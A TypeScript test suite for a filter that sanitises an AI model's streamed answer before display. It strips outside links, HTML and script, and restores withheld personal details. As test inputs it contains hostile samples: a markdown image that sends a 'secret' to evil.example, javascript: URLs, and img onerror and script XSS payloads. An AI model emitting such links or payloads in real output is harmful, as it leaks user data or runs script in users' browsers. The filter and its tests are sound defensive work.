import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { textSpans } from "#kernel/rich-text.ts";
import { normaliseText } from "#kernel/text.ts";
import { answerGate } from "./answer-gate.ts";
import { withoutPersonal } from "./without-personal.ts";

const pass = (pieces: readonly string[], known: readonly string[] = [], restore?: (text: string) => string) => {
  const gate = answerGate(new Set(known), restore);
  return pieces.map((piece) => gate.push(piece)).join("") + gate.end();
};

describe("a model's text, filtered before it is shown", () => {
  test.each([
    ["Open [Jobs](/my-jobs) now.", "Open [Jobs](/my-jobs) now."],
    ["See [this](https://evil.example/x).", "See this."],
    ["See [a](//evil.example) and [b](/\\evil.example) and [c](javascript:alert(1)).", "See a and b and c)."],
    ["![x](https://evil.example/leak?q=secret)", "x"],
    ["Go to https://evil.example/pay now", "Go to (address left out) now"],
    ["Go to www.evil.example, or evil.com/pay", "Go to (address left out) or (address left out)"],
    ["Write to boss@evil.example please", "Write to (address left out) please"],
    ["javascript:alert(1) data:text/html,x", "(address left out) (address left out)"],
    ["<b>Bold</b> <img src=x onerror=alert(1)> <script>alert(1)</script>", "Bold  alert(1)"],
    ["[https://evil.example](/my-jobs)", "[(address left out)](/my-jobs)"],
    ["## Your jobs\n- One\n### More", "Your jobs\n- One\nMore"],
    ["It costs < £5 and > £3, e.g. on [x", "It costs < £5 and > £3, e.g. on [x"],
    ["\uE0000\uE000 [Jobs](/my-jobs)", "0 [Jobs](/my-jobs)"],
    ["[Post a job, now](/post-job) and more", "[Post a job, now](/post-job) and more"],
    ["[Unfinished](/my-jobs", "[Unfinished] (/my-jobs"],
    ["[x y](/job/1[x](https://evil.example))", "[x y] (/job/1x)"],
  ])("%s", (text, shown) => {
    expect(pass([text])).toBe(shown);
    expect(pass([...text])).toBe(shown);
  });

  test("has one form of text, however it is cut", () => {
    const text = "Zoe\u0308’s cafe\u0301:\r\n\u200bask\u00a0now, evil\u200b.com";
    for (const pieces of [[text], [...text], text.split(/(?=\u0308|\u0301|\n)/)])
      expect(pass(pieces)).toBe("Zoë's café:\nask now, (address left out)");
  });

  test("links to records that were looked up, and to no other records", () => {
    const mine = "/job/019a0000-0000-7000-8000-000000000001";
    const theirs = "/job/019a0000-0000-7000-8000-000000000002";
    expect(pass([`[Mine](${mine}) [theirs](${theirs})`], [mine])).toBe(`[Mine](${mine}) theirs`);
  });

  test("contains the personal details that were withheld from the model", () => {
    const { text, restore } = withoutPersonal("A plumber near LS6 2AB, call 07700 900123", "Ann Smith");
    expect(text).not.toMatch(/LS6|07700/);
    const [postcode] = /\[postcode \d+\]/.exec(text) ?? [];
    expect(pass([..."Nobody serves ", ...`${postcode}`, ..." yet."], [], restore)).toBe("Nobody serves LS6 2AB yet.");
  });

  test("takes 20,000 characters of what is never completed, one after the other", () => {
    for (const piece of ["[", "![", "[x](", "[x] ", "<a", "a.", "a@", "://", "www.", "[ ", "<b "]) {
      const text = piece.repeat(20_000 / piece.length);
      expect(pass([...text]), piece).toBe(pass([text]));
    }
  });

  test("does not depend on how it is cut, and never contains an address of another site", () => {
    const bit = fc.constantFrom(
      ..."[]()<>!/#:.-*@ \n".split(""),
      "[Jobs](/my-jobs)",
      "[x](https://evil.example)",
      "https://evil.example/a",
      "//evil.example",
      "evil.com",
      "<img src=x>",
      "[la<b>bel](/my-jobs x)",
      "[x<b]> y](/job/1",
      "word",
      "two words ",
      "/my-jobs",
      "\uE0000\uE000",
      "e\u0301",
      "\u0301",
      "\r",
      "\r\n",
      "\u200b",
      "\u00a0",
      "\u2028",
      "👩\u200d🔧",
      "it’s",
      "evil\u200b.com",
    );
    fc.assert(
      fc.property(
        fc.array(bit, { maxLength: 25 }),
        fc.array(fc.nat(7), { minLength: 1, maxLength: 8 }),
        (bits, cuts) => {
          const text = bits.join("");
          const pieces: string[] = [];
          for (let at = 0, turn = 0; at < text.length; turn++) {
            const length = (cuts[turn % cuts.length] ?? 0) + 1;
            pieces.push(text.slice(at, at + length));
            at += length;
          }
          const whole = pass(pieces);
          for (const { href } of textSpans(whole))
            if (href !== undefined && !/^\/my-jobs/.test(href)) expect.fail(whole);
          expect(whole).not.toMatch(/https?:\/\/|\bevil\.(com|example)\b/);
          expect(whole).toBe(pass([text]));
          expect(whole).toBe(normaliseText(whole));
        },
      ),
      { numRuns: 200, examples: [[["#", " ", " "], [0]]] },
    );
  });
});
